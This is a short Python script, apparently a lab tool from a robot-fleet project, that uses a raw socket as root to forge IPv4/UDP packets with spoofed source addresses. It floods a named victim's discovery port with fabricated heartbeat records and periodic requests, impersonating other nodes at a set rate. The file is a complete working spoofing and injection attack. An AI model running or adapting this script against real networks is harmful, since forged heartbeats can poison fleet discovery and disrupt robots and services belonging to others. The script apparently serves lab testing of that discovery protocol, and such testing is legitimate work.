# SPDX-FileCopyrightText: rosfleet contributors
# SPDX-License-Identifier: GPL-3.0-or-later

"""Sends heartbeats in the name of others, each with another stamp. Prints how many, and when the last one was, as JSON.

spoofed_beats.py VICTIM COUNT SECONDS RATE FIRST-LAST SOURCE... : runs on a computer of the lab, as root. RATE is what they
promise, ten times the beats a second; FIRST-LAST are the ports of the XML-RPC servers that they claim, in turn, as the
sources are. Every third one to another port than that of discovery is a request.
"""

import itertools
import json
import socket
import struct
import sys
import time

victim, count, seconds, rate, ports, *sources = sys.argv[1:]
count, seconds, rate = int(count), float(seconds), int(rate)
first, last = map(int, ports.split("-"))
PORT, RPC = 11511, 11611
began, sent = time.monotonic(), 0
with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as raw:
    pairs = itertools.cycle(itertools.product(range(first, last + 1), sources))
    for number, (port, source) in zip(range(count), pairs):
        stamp = int(time.time()) + number
        record = struct.pack("<cBBxiiHxxii", b"R", 2, rate, stamp, 0, port, stamp, 0)
        if number % 3 == 2 and port != RPC:
            record = struct.pack("<cBBxiiHxxii", b"R", 3, rate, 0, 0, port, 0, 0)
        udp = struct.pack(">HHHH", PORT, PORT, 8 + len(record), 0) + record
        ends = socket.inet_aton(source), socket.inet_aton(victim)
        raw.sendto(struct.pack(">BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 0, 0, 8, 17, 0, *ends) + udp, (victim, 0))
        sent, ended = sent + 1, time.monotonic()
        time.sleep(max(0.0, began + (number + 1) * seconds / count - time.monotonic()))
print(json.dumps({"sent": sent, "seconds": round(time.monotonic() - began, 1), "last": ended}))
